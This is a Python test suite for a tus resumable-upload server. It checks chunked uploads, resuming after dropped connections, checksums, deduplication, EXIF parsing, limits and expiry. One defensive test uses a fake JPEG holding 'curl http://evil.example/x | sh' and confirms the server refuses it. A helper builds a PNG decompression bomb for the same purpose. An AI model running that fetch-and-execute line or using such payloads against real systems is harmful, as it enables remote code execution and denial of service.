"""tus uploads with tuspy over real HTTP, on both blob stores (local folder, S3 via moto)."""
import hashlib
import os
import socket
import struct
import time
import zlib
from datetime import timedelta
from urllib.parse import urlparse

import pytest
import requests
from sqlalchemy import func, select
from tusclient.client import TusClient
from tusclient.exceptions import TusUploadFailed
from tusclient.uploader import Uploader

from media.models import Blob, Upload
from server.clock import utcnow
from server.extensions import db
from tests.conftest import assert_problem
from tests.media_fixtures import make_photo, sha

TUS = {"Tus-Resumable": "1.0.0"}


class Sha256Uploader(Uploader):
    """tuspy with sha256 per-chunk checksums (it defaults to sha1)."""
    CHECKSUM_ALGORITHM_PAIR = ("sha256", hashlib.sha256)


def uploader(live_server, headers, data, *, declared=None, chunk_size=1024 * 1024, url=None, **meta):
    import io
    client = TusClient(f"{live_server}/api/v1/uploads", headers=dict(headers))
    metadata = {"sha256": declared or sha(data), "filename": "现场.jpg", "filetype": "image/jpeg", **meta}
    return Sha256Uploader(file_stream=io.BytesIO(data), client=client, chunk_size=chunk_size,
                          metadata=metadata, upload_checksum=True, url=url)


def stored_objects(store):
    if hasattr(store, "root"):
        tmp = os.path.join(store.root, "tmp")
        return sorted(f for d, _, files in os.walk(store.root) for f in files if d != tmp)
    resp = store.client.list_objects_v2(Bucket=store.bucket)
    return sorted(o["Key"] for o in resp.get("Contents", []))


def fresh(model, key):
    db.session.expire_all()
    return db.session.get(model, key)


def blob_count():
    db.session.expire_all()
    return db.session.scalar(select(func.count()).select_from(Blob))


# --------------------------------------------------------------------------- protocol basics

def test_options_advertises_tus_with_sha256_checksums_and_cors(client):
    r = client.options("/api/v1/uploads", headers={"Origin": "https://app.example"})
    assert r.status_code == 204
    assert r.headers["Tus-Version"] == "1.0.0" and r.headers["Tus-Resumable"] == "1.0.0"
    assert set(r.headers["Tus-Extension"].split(",")) == {"creation", "checksum", "termination", "expiration"}
    assert "sha256" in r.headers["Tus-Checksum-Algorithm"].split(",")
    assert int(r.headers["Tus-Max-Size"]) == client.application.config["MAX_UPLOAD_BYTES"]
    assert "Upload-Offset" in r.headers["Access-Control-Expose-Headers"]
    assert "Location" in r.headers["Access-Control-Expose-Headers"]
    assert "Upload-Checksum" in r.headers["Access-Control-Allow-Headers"]


def test_uploads_need_a_login_and_the_tus_version(client, auth):
    assert_problem(client.post("/api/v1/uploads", headers={**TUS, "Upload-Length": "10"}), 401)
    r = client.post("/api/v1/uploads", headers={**auth.headers("wangge"), "Upload-Length": "10"})
    assert_problem(r, 412)
    assert r.headers["Tus-Version"] == "1.0.0"


def test_creation_needs_the_whole_file_sha256(client, auth):
    r = client.post("/api/v1/uploads", headers={**TUS, **auth.headers("wangge"), "Upload-Length": "10"})
    body = assert_problem(r, 422)
    assert "sha256" in body["errors"]


# --------------------------------------------------------------------------- the Done-when list

def test_multi_mb_photo_uploads_in_chunks_and_is_stored_once(backend, live_server, auth, big_photo):
    assert len(big_photo) > 2 * 1024 * 1024
    up = uploader(live_server, {**auth.headers("wangge")}, big_photo, chunk_size=512 * 1024)
    up.upload()
    digest = sha(big_photo)
    blob = fresh(Blob, digest)
    assert blob is not None and blob.size == len(big_photo) and blob.mime == "image/jpeg" and blob.kind == "photo"
    with backend.open(digest) as f:
        assert f.read() == big_photo
    assert blob.meta["width"] == 2000 and blob.meta["height"] == 1500
    assert blob.meta["filename"] == "现场.jpg"
    assert blob.device_id == auth.tokens["wangge"]["device_id"] and blob.uploader_id is not None
    path = urlparse(up.url).path
    r = requests.head(up.url, headers={**TUS, **auth.headers("wangge")})
    assert r.status_code == 200 and r.headers["Upload-Offset"] == str(len(big_photo))
    assert r.headers["Blob-Sha256"] == digest
    # The part file is gone once stored.
    upload = fresh(Upload, path.rsplit("/", 1)[1])
    assert upload.state == "done" and not os.path.exists(os.path.join(
        backend_tmp(), f"{upload.id}.part"))


def backend_tmp():
    from flask import current_app
    return current_app.config["UPLOAD_TMP_DIR"]


def _patch_and_drop(live_server, path, headers, data, offset, send):
    """Send a PATCH announcing the rest of the file, deliver ``send`` bytes, hang up."""
    u = urlparse(live_server)
    head = [f"PATCH {path} HTTP/1.1", f"Host: {u.netloc}", "Tus-Resumable: 1.0.0",
            "Content-Type: application/offset+octet-stream", f"Upload-Offset: {offset}",
            f"Content-Length: {len(data) - offset}"] + [f"{k}: {v}" for k, v in headers.items()]
    s = socket.create_connection((u.hostname, u.port))
    s.sendall(("\r\n".join(head) + "\r\n\r\n").encode() + data[offset:offset + send])
    time.sleep(0.2)
    s.shutdown(socket.SHUT_RDWR)
    s.close()


def _offset(url, headers, want, timeout=10):
    deadline = time.monotonic() + timeout
    while True:
        r = requests.head(url, headers={**TUS, **headers})
        off = int(r.headers["Upload-Offset"])
        if off == want or time.monotonic() > deadline:
            return off
        time.sleep(0.05)


def test_a_connection_killed_midway_resumes_from_the_servers_offset(backend, live_server, auth, big_photo):
    headers = auth.headers("wangge")
    first = uploader(live_server, headers, big_photo, chunk_size=256 * 1024)
    first.upload_chunk()  # creates the upload and sends 256 KiB
    url = first.url
    # The link drops 1 MB into the next chunk: the server keeps what arrived.
    _patch_and_drop(live_server, urlparse(url).path, headers, big_photo, 256 * 1024, 1024 * 1024)
    assert _offset(url, headers, 256 * 1024 + 1024 * 1024) == 256 * 1024 + 1024 * 1024
    # A new client (the app restarted) resumes with the stored URL.
    second = uploader(live_server, headers, big_photo, chunk_size=1024 * 1024, url=url)
    assert second.offset == 256 * 1024 + 1024 * 1024
    second.upload()
    digest = sha(big_photo)
    with backend.open(digest) as f:
        assert f.read() == big_photo
    assert blob_count() == 1


def test_a_wrong_whole_file_checksum_is_refused_and_nothing_is_stored(backend, live_server, auth, big_photo):
    declared = sha(b"other bytes")
    up = uploader(live_server, auth.headers("wangge"), big_photo, declared=declared, chunk_size=1024 * 1024)
    with pytest.raises(TusUploadFailed) as e:
        up.upload()
    assert e.value.status_code == 460
    assert blob_count() == 0
    assert not backend.exists(declared) and not backend.exists(sha(big_photo))
    assert stored_objects(backend) == []
    assert os.listdir(backend_tmp()) == []
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(Upload)) == 0


def test_a_chunk_with_a_wrong_checksum_is_dropped_and_can_be_resent(backend, live_server, auth):
    data = make_photo(800, 600)
    headers = {**TUS, **auth.headers("wangge")}
    up = uploader(live_server, auth.headers("wangge"), data)
    url = up.create_url()
    bad = "sha256 " + __import__("base64").b64encode(hashlib.sha256(b"nope").digest()).decode()
    r = requests.patch(url, data=data, headers={**headers, "Upload-Offset": "0", "Upload-Checksum": bad,
                                                "Content-Type": "application/offset+octet-stream"})
    assert r.status_code == 460 and r.headers["Content-Type"] == "application/problem+json"
    assert requests.head(url, headers=headers).headers["Upload-Offset"] == "0"
    assert blob_count() == 0
    r = requests.patch(url, data=data, headers={**headers, "Upload-Offset": "0",
                                                "Content-Type": "application/offset+octet-stream"})
    assert r.status_code == 204 and r.headers["Upload-Offset"] == str(len(data))
    assert blob_count() == 1


def test_the_same_photo_uploaded_twice_is_stored_once(backend, live_server, auth):
    data = make_photo(1024, 768)
    uploader(live_server, auth.headers("wangge"), data).upload()
    objects = stored_objects(backend)
    assert len(objects) == 1  # the photo (its variants are made by a background job)
    uploader(live_server, auth.headers("zhifa1"), data).upload()  # another phone, same bytes
    assert stored_objects(backend) == objects
    assert blob_count() == 1
    db.session.expire_all()
    assert db.session.scalar(select(func.count()).select_from(Upload).where(Upload.state == "done")) == 2


def test_a_script_renamed_jpg_is_refused_with_415(backend, live_server, auth):
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 20
    up = uploader(live_server, auth.headers("wangge"), script, kind="photo", filename="photo.jpg")
    with pytest.raises(TusUploadFailed) as e:
        up.upload()
    assert e.value.status_code == 415
    assert "image/jpeg" in e.value.response_content.decode()
    assert blob_count() == 0 and stored_objects(backend) == []


def test_exif_gps_capture_time_and_orientation_are_read_from_the_photo(app, backend, live_server, auth):
    app.config["RQ_ASYNC"] = False  # the variants job runs at once, in the request
    data = make_photo(640, 480, gps=(38.2615, 114.2012, 210.5), orientation=6)
    uploader(live_server, auth.headers("wangge"), data).upload()
    blob = fresh(Blob, sha(data))
    exif = blob.meta["exif"]
    assert exif["gps"] == {"lat": 38.2615, "lon": 114.2012, "alt": 210.5}
    assert exif["captured_at"] == "2026-11-30T09:15:42+08:00"  # the device's claim
    assert exif["make"] == "Danbing"
    assert blob.received_at is not None  # the server's own receipt time, beside it
    # Orientation 6: shown rotated, so width and height swap; the thumbnail is upright.
    assert (blob.meta["width"], blob.meta["height"], blob.meta["orientation"]) == (480, 640, 6)
    thumb, preview = blob.meta["variants"]["thumb"], blob.meta["variants"]["preview"]
    assert (thumb["width"], thumb["height"]) == (192, 256)
    assert (preview["width"], preview["height"]) == (480, 640)
    assert backend.exists(thumb["sha256"]) and backend.exists(preview["sha256"])


def _png_bomb(width, height):
    """A valid PNG header declaring ``width`` x ``height`` pixels (a decompression bomb)."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 1024)) + chunk(b"IEND", b"")


def test_a_decompression_bomb_is_refused(backend, live_server, auth):
    bomb = _png_bomb(60000, 60000)
    up = uploader(live_server, auth.headers("wangge"), bomb, filetype="image/png")
    with pytest.raises(TusUploadFailed) as e:
        up.upload()
    assert e.value.status_code == 413
    assert blob_count() == 0


# --------------------------------------------------------------------------- limits, expiry, termination

def test_a_file_over_the_size_limit_is_413_with_the_limit(client, auth):
    limit = client.application.config["MAX_UPLOAD_BYTES"]
    r = client.post("/api/v1/uploads", headers={**TUS, **auth.headers("wangge"), "Upload-Length": str(limit + 1),
                                                "Upload-Metadata": "sha256 " + _b64(sha(b"x"))})
    body = assert_problem(r, 413)
    assert body["limit"] == limit


def _b64(s):
    import base64
    return base64.b64encode(s.encode()).decode()


def _create(client, headers, length=100, data=b"x"):
    return client.post("/api/v1/uploads", headers={**TUS, **headers, "Upload-Length": str(length),
                                                   "Upload-Metadata": "sha256 " + _b64(sha(data))})


def test_too_many_uploads_in_flight_is_413_with_the_limit(app, client, auth, tmp_path):
    app.config["MAX_UPLOADS_IN_FLIGHT"] = 2
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    h = auth.headers("wangge")
    assert _create(client, h).status_code == 201
    assert _create(client, h).status_code == 201
    body = assert_problem(_create(client, h), 413)
    assert body["limit"] == 2
    assert _create(client, auth.headers("zhifa1")).status_code == 201  # per user


def test_an_abandoned_upload_expires_and_is_cleaned_up(app, client, auth, runner, tmp_path):
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    app.config["UPLOAD_EXPIRES"] = 60  # shorter than the access token's life
    h = {**TUS, **auth.headers("wangge")}
    r = _create(client, auth.headers("wangge"))
    url = r.headers["Location"]
    assert r.headers["Upload-Expires"].endswith("GMT")
    r = client.patch(url, data=b"x" * 40, headers={**h, "Upload-Offset": "0",
                                                   "Content-Type": "application/offset+octet-stream"})
    assert r.status_code == 204 and r.headers["Upload-Offset"] == "40"
    assert len(os.listdir(tmp_path)) == 1
    later = utcnow() + timedelta(seconds=app.config["UPLOAD_EXPIRES"] + 1)
    app.config["CLOCK"] = lambda: later
    assert client.head(url, headers=h).status_code == 410
    result = runner.invoke(args=["media", "cleanup"])
    assert result.exit_code == 0 and "removed 1" in result.output
    assert os.listdir(tmp_path) == []
    assert client.head(url, headers=h).status_code == 404


def test_termination_removes_the_upload(app, client, auth, tmp_path):
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    h = {**TUS, **auth.headers("wangge")}
    url = _create(client, auth.headers("wangge")).headers["Location"]
    assert client.delete(url, headers=h).status_code == 204
    assert client.head(url, headers=h).status_code == 404
    assert os.listdir(tmp_path) == []


def test_someone_elses_upload_is_not_found(app, client, auth, tmp_path):
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    url = _create(client, auth.headers("wangge")).headers["Location"]
    assert client.head(url, headers={**TUS, **auth.headers("zhifa1")}).status_code == 404


def test_a_wrong_offset_is_409(app, client, auth, tmp_path):
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    h = {**TUS, **auth.headers("wangge")}
    url = _create(client, auth.headers("wangge")).headers["Location"]
    r = client.patch(url, data=b"abc", headers={**h, "Upload-Offset": "5",
                                                "Content-Type": "application/offset+octet-stream"})
    assert_problem(r, 409)
    r = client.patch(url, data=b"abc", headers={**h, "Upload-Offset": "0", "Content-Type": "text/plain"})
    assert_problem(r, 415)


def test_method_override_for_proxies_that_allow_only_post(app, client, auth, tmp_path):
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    data = make_photo(64, 64)
    h = {**TUS, **auth.headers("wangge")}
    url = _create(client, auth.headers("wangge"), len(data), data).headers["Location"]
    r = client.post(url, data=data, headers={**h, "X-HTTP-Method-Override": "PATCH", "Upload-Offset": "0",
                                             "Content-Type": "application/offset+octet-stream"})
    assert r.status_code == 204 and r.headers["Upload-Offset"] == str(len(data))
    assert fresh(Blob, sha(data)) is not None


def test_a_second_writer_on_the_same_upload_is_409(app, client, auth, tmp_path):
    import fcntl
    app.config["UPLOAD_TMP_DIR"] = str(tmp_path)
    h = {**TUS, **auth.headers("wangge")}
    url = _create(client, auth.headers("wangge")).headers["Location"]
    with open(tmp_path / (url.rsplit("/", 1)[1] + ".part"), "rb") as f:
        fcntl.flock(f.fileno(), fcntl.LOCK_EX)  # another request is writing
        r = client.patch(url, data=b"abc", headers={**h, "Upload-Offset": "0",
                                                    "Content-Type": "application/offset+octet-stream"})
        assert_problem(r, 409)


def test_a_cut_off_jpeg_is_stored_as_sent_but_its_thumbnail_is_415(app, client, auth, tmp_path, backend):
    good = make_photo(640, 480, noise=True)
    data = good[:good.index(b"\xff\xda") + 300]  # headers intact, image data cut off
    h = {**TUS, **auth.headers("wangge")}
    url = _create(client, auth.headers("wangge"), len(data), data).headers["Location"]
    r = client.patch(url, data=data, headers={**h, "Upload-Offset": "0",
                                              "Content-Type": "application/offset+octet-stream"})
    assert r.status_code == 204  # evidence is kept byte for byte, as it came
    assert_problem(client.get(f"/api/v1/blobs/{sha(data)}?variant=thumb", headers=h), 415)


def test_under_gunicorn_whole_file_chunked_and_interrupted_uploads_all_arrive_intact(gunicorn_server, auth,
                                                                                      big_photo):
    """gunicorn's request body is read through its inner reader (see views._body_stream)."""
    from media.storage import LocalStore
    base, blob_dir = gunicorn_server
    store, headers = LocalStore(blob_dir), auth.headers("wangge")
    whole = make_photo(1200, 900, noise=True)
    uploader(base, headers, whole, chunk_size=len(whole)).upload()
    small_chunks = make_photo(1000, 800, noise=True)
    uploader(base, headers, small_chunks, chunk_size=100_000).upload()
    first = uploader(base, headers, big_photo, chunk_size=300_000)
    first.upload_chunk()
    _patch_and_drop(base, urlparse(first.url).path, headers, big_photo, 300_000, 700_000)
    assert _offset(first.url, headers, 1_000_000) == 1_000_000
    uploader(base, headers, big_photo, url=first.url, chunk_size=len(big_photo)).upload()
    for data in (whole, small_chunks, big_photo):
        with store.open(sha(data)) as f:
            assert f.read() == data
        assert fresh(Blob, sha(data)).size == len(data)
    bad = uploader(base, headers, whole + b"x", declared=sha(whole))
    with pytest.raises(TusUploadFailed) as e:
        bad.upload()
    assert e.value.status_code == 460
